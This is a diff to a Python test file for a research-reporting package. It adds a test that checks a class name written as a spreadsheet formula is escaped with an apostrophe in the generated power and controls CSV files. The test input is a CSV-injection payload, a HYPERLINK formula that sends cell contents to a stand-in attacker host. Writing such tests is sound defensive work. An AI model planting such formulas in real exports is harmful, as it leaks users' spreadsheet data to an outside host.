@@ -16,6 +16,7 @@ from radgaze.reporting.paper import Results
 from radgaze.reporting.paper.claim_checks import claims
 from radgaze.reporting.paper.controls import caveat, control_table, write_controls
 from radgaze.reporting.paper.limitations import limits
+from radgaze.reporting.paper.power import write_power
 from radgaze.reporting.paper.table_set import tables
 from tests.reporting.fakes import CLASSES
 from tests.reporting.paper.grids import change, grid, made
@@ -131,6 +132,18 @@ def test_words_say_from_which_controls_the_gaze_is_distinguishable(
     text = (tmp_path / "controls.md").read_text(encoding="utf-8")
     assert text.startswith("> **SELECTED**")
     assert len([line for line in text.splitlines() if line.startswith("| Set")]) == 4
+
+
+def test_a_class_whose_name_is_a_formula_is_marked_in_the_csv_files(results: Results, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    differences = {"baseline": {"set3_guided": dict.fromkeys((MACRO, formula), UP)}}
+    estimates = made({"baseline": 0.8, "set3_guided": 0.85}, differences, (formula, "Normal"))
+    estimates = replace(estimates, controls={"set3_guided+shuffled": dict.fromkeys((MACRO, formula), UP)})
+    write_power(estimates, tmp_path)
+    write_controls(control_table(results, estimates), tmp_path)
+    for name in ("power.csv", "controls.csv"):
+        with (tmp_path / name).open(encoding="utf-8") as file:
+            assert [row["figure"] for row in csv.DictReader(file)] == [MACRO, f"'{formula}"]
 
 
 def test_a_claim_says_what_its_controls_show_or_that_there_is_none() -> None:
